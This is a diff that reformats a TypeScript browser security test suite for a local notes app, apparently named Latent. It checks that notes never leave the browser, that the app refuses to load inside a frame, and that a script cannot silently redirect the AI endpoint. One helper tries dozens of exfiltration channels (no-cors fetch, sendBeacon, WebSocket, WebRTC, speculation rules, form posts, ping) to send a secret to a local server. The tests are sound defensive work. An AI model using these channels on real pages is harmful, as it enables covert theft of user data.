@@ -11,7 +11,9 @@ const DIST = process.env.LATENT_DIST ?? fileURLToPath(new URL('../dist', import.
 const SECRET = 'the-cellar-door-code';
 
 /** Another program on this machine, on its own port, that records each connection. */
-async function startOtherProgram(page = '<!doctype html>'): Promise<{ readonly origin: string; readonly seen: string[] }> {
+async function startOtherProgram(
+  page = '<!doctype html>',
+): Promise<{ readonly origin: string; readonly seen: string[] }> {
   const seen: string[] = [];
   const note = ({ method, url }: IncomingMessage) => void seen.push(`${method} ${url}`);
   const server = createServer((request, response) => {
@@ -46,10 +48,18 @@ async function tryEverything(page: Page, origin: string): Promise<string[]> {
         sheet.replaceSync(css);
         document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
       };
-      const scope = window as unknown as Record<string, new (...parameters: unknown[]) => { createDataChannel?(name: string): void; createOffer?(): Promise<unknown>; setLocalDescription?(offer: unknown): Promise<void> }>;
+      const scope = window as unknown as Record<
+        string,
+        new (...parameters: unknown[]) => {
+          createDataChannel?(name: string): void;
+          createOffer?(): Promise<unknown>;
+          setLocalDescription?(offer: unknown): Promise<void>;
+        }
+      >;
       const ways: Record<string, () => unknown> = {
         fetch: () => fetch(at('fetch')),
-        'fetch-no-cors': () => fetch(at('fetch-no-cors'), { method: 'POST', mode: 'no-cors', body: secret, keepalive: true }),
+        'fetch-no-cors': () =>
+          fetch(at('fetch-no-cors'), { method: 'POST', mode: 'no-cors', body: secret, keepalive: true }),
         beacon: () => navigator.sendBeacon(at('beacon'), secret),
         xhr: () => {
           const request = new XMLHttpRequest();
@@ -59,7 +69,10 @@ async function tryEverything(page: Page, origin: string): Promise<string[]> {
         socket: () => new WebSocket(at('socket').replace('http', 'ws')),
         events: () => new EventSource(at('events')),
         transport: () => new scope.WebTransport!(at('transport').replace('http:', 'https:')),
-        'fetch-later': () => (window as unknown as { fetchLater?: (url: string, init: object) => void }).fetchLater?.(at('fetch-later'), { activateAfter: 0 }),
+        'fetch-later': () =>
+          (window as unknown as { fetchLater?: (url: string, init: object) => void }).fetchLater?.(at('fetch-later'), {
+            activateAfter: 0,
+          }),
         webrtc: async () => {
           const peer = new scope.RTCPeerConnection!({ iceServers: [{ urls: `stun:${new URL(to).host}` }] });
           peer.createDataChannel?.('x');
@@ -91,7 +104,11 @@ async function tryEverything(page: Page, origin: string): Promise<string[]> {
         modulepreload: () => put('link', { rel: 'modulepreload', href: at('modulepreload') }),
         icon: () => put('link', { rel: 'icon', href: at('icon') }),
         manifest: () => put('link', { rel: 'manifest', href: at('manifest') }),
-        speculation: () => (put('script', { type: 'speculationrules' }).textContent = JSON.stringify({ prefetch: [{ urls: [at('speculation')] }], prerender: [{ urls: [at('prerender')] }] })),
+        speculation: () =>
+          (put('script', { type: 'speculationrules' }).textContent = JSON.stringify({
+            prefetch: [{ urls: [at('speculation')] }],
+            prerender: [{ urls: [at('prerender')] }],
+          })),
         form: () => {
           const form = put('form', { action: at('form'), method: 'post' }) as HTMLFormElement;
           form.submit();
@@ -104,11 +121,20 @@ async function tryEverything(page: Page, origin: string): Promise<string[]> {
         ping: () => put('a', { href: '#here', ping: at('ping') }).click(),
         download: () => put('a', { href: at('download'), download: 'x' }).click(),
         link: () => put('a', { href: at('link') }).click(),
-        refresh: () => document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=${at('refresh')}` })),
+        refresh: () =>
+          document.head.append(
+            Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=${at('refresh')}` }),
+          ),
         location: () => (location.href = at('location')),
         replace: () => location.replace(at('replace')),
       };
-      for (const way of Object.values(ways)) await Promise.race([Promise.resolve().then(way).catch(() => undefined), new Promise((resolve) => setTimeout(resolve, 200))]);
+      for (const way of Object.values(ways))
+        await Promise.race([
+          Promise.resolve()
+            .then(way)
+            .catch(() => undefined),
+          new Promise((resolve) => setTimeout(resolve, 200)),
+        ]);
       return Object.keys(ways);
     },
     [origin, SECRET] as const,
@@ -140,8 +166,13 @@ it('does not start inside a frame, whether or not its host sends headers', async
   const latent = await startLatent({ vault: { 'Door.md': SECRET } });
   await latent.openVault();
   latent.watch.allow(/frame-ancestors|X-Frame-Options|chrome-error/u);
-  for (const [url, shown] of [[latent.url, /^$/u], [bare.url, /Latent does not run inside another page/u]] as const) {
-    const otherProgram = await startOtherProgram(`<!doctype html><iframe src="${url}" width="900" height="600"></iframe>`);
+  for (const [url, shown] of [
+    [latent.url, /^$/u],
+    [bare.url, /Latent does not run inside another page/u],
+  ] as const) {
+    const otherProgram = await startOtherProgram(
+      `<!doctype html><iframe src="${url}" width="900" height="600"></iframe>`,
+    );
     latent.watch.allowOrigin(otherProgram.origin);
     latent.watch.allowOrigin(new URL(url).origin);
     const outside = await latent.context.newPage();
@@ -150,7 +181,9 @@ it('does not start inside a frame, whether or not its host sends headers', async
     const frame = outside.frames()[1]!;
     const text = () => frame.evaluate(() => document.body.innerText).catch(() => '');
     await expect.poll(async () => (await text()).replace(/.*refused to connect.*|.*blocked.*/isu, '')).toMatch(shown);
-    expect(await frame.evaluate(() => 'latent' in window || document.querySelector('#app') !== null).catch(() => false)).toBe(false);
+    expect(
+      await frame.evaluate(() => 'latent' in window || document.querySelector('#app') !== null).catch(() => false),
+    ).toBe(false);
     await outside.close();
   }
 });
@@ -160,7 +193,11 @@ it('is served with headers that isolate it from other sites, by the host and by 
   const read = () => latent.page.evaluate(async () => Object.fromEntries((await fetch('./')).headers));
   const expected = {
     'content-security-policy': expect.stringContaining("frame-ancestors 'none'") as string,
-    'cross-origin-opener-policy': 'same-origin', 'cross-origin-resource-policy': 'same-origin', 'x-content-type-options': 'nosniff', 'x-frame-options': 'DENY', 'referrer-policy': 'no-referrer',
+    'cross-origin-opener-policy': 'same-origin',
+    'cross-origin-resource-policy': 'same-origin',
+    'x-content-type-options': 'nosniff',
+    'x-frame-options': 'DENY',
+    'referrer-policy': 'no-referrer',
     'permissions-policy': expect.stringContaining('camera=()') as string,
   };
   expect(await read()).toMatchObject(expected);
@@ -170,7 +207,10 @@ it('is served with headers that isolate it from other sites, by the host and by 
   expect(await read()).toMatchObject(expected);
 });
 
-const lines = async (page: Page): Promise<string[]> => (await page.getByRole('list', { name: 'Requests' }).getByRole('listitem').allInnerTexts()).map((text) => text.replaceAll(/\s+/gu, ' '));
+const lines = async (page: Page): Promise<string[]> =>
+  (await page.getByRole('list', { name: 'Requests' }).getByRole('listitem').allInnerTexts()).map((text) =>
+    text.replaceAll(/\s+/gu, ' '),
+  );
 
 async function readAccount(latent: Latent): Promise<string> {
   await runCommand(latent.page, 'What has left this browser');
@@ -181,14 +221,19 @@ async function readAccount(latent: Latent): Promise<string> {
 }
 
 it('lists every request that left the browser: when, why, where to, how much, and text of which notes', async () => {
-  const latent = await startLatent({ vault: { 'Garlic.md': '# Garlic\n\nPlant it in October.\n', 'Moths.md': '# Moths\n' } });
+  const latent = await startLatent({
+    vault: { 'Garlic.md': '# Garlic\n\nPlant it in October.\n', 'Moths.md': '# Moths\n' },
+  });
   await latent.openVault();
   const { page } = latent;
   await button(page, 'Nothing sent: nothing has left this browser').waitFor();
   expect(await readAccount(latent)).toContain('Nothing has left this browser.');
   await page.keyboard.press('Escape');
 
-  const endpoint = await useEndpoint(latent, [{ toolCalls: [{ name: 'read_note', arguments: { path: 'Garlic.md' } }] }, { text: 'In October.' }]);
+  const endpoint = await useEndpoint(latent, [
+    { toolCalls: [{ name: 'read_note', arguments: { path: 'Garlic.md' } }] },
+    { text: 'In October.' },
+  ]);
   await send(page, 'When is garlic planted?');
   await page.getByText('In October.', { exact: true }).waitFor();
   const { host } = new URL(endpoint.baseUrl);
@@ -213,9 +258,14 @@ it('lists every request that left the browser: when, why, where to, how much, an
     opened.close();
     return rows.filter(({ reason }) => reason === 'answer').map(({ sent, received }) => ({ sent, received }));
   });
-  expect(kept.map(({ sent }) => sent).sort()).toEqual(endpoint.requests.map(({ body }) => Buffer.byteLength(JSON.stringify(body))).sort());
+  expect(kept.map(({ sent }) => sent).sort()).toEqual(
+    endpoint.requests.map(({ body }) => Buffer.byteLength(JSON.stringify(body))).sort(),
+  );
   expect(kept.every(({ received }) => received > 0)).toBe(true);
-  expect(latent.watch.requests.some((url) => url.startsWith(endpoint.baseUrl)), 'requests of the worker are watched').toBe(true);
+  expect(
+    latent.watch.requests.some((url) => url.startsWith(endpoint.baseUrl)),
+    'requests of the worker are watched',
+  ).toBe(true);
 
   await latent.reload();
   await page.waitForFunction(() => window.latent.status().textReady);
@@ -261,10 +311,22 @@ it('asks before a script allows more hosts than the person set up, and accepts a
   const latent = await startLatent({ vault: { 'A.md': 'x' } });
   await latent.openVault();
   const { page } = latent;
-  await page.evaluate(() => window.latent.configure({ provider: 'openai-compatible', baseUrl: 'http://127.0.0.1:1/v1', model: 'm', apiKey: 'k' }));
+  await page.evaluate(() =>
+    window.latent.configure({
+      provider: 'openai-compatible',
+      baseUrl: 'http://127.0.0.1:1/v1',
+      model: 'm',
+      apiKey: 'k',
+    }),
+  );
   expect(await page.getByRole('dialog').count()).toBe(0);
 
-  const answer = page.evaluate(() => window.latent.configure({ baseUrl: 'https://elsewhere.example/v1', trustAgents: true }).then(() => 'changed', (error: Error) => error.message));
+  const answer = page.evaluate(() =>
+    window.latent.configure({ baseUrl: 'https://elsewhere.example/v1', trustAgents: true }).then(
+      () => 'changed',
+      (error: Error) => error.message,
+    ),
+  );
   const dialog = page.getByRole('dialog', { name: 'A script wants to change your settings' });
   await dialog.getByText('send your questions, and the notes that they are about, to elsewhere.example').waitFor();
   await dialog.getByText('let agents of the browser read your notes without asking you').waitFor();
@@ -272,7 +334,9 @@ it('asks before a script allows more hosts than the person set up, and accepts a
   expect(await answer).toContain('did not allow');
   await dialog.waitFor({ state: 'detached' });
 
-  const second = page.evaluate(() => window.latent.configure({ baseUrl: 'https://elsewhere.example/v1' }).then(() => 'changed'));
+  const second = page.evaluate(() =>
+    window.latent.configure({ baseUrl: 'https://elsewhere.example/v1' }).then(() => 'changed'),
+  );
   await button(page, 'Allow').click();
   expect(await second).toBe('changed');
 });
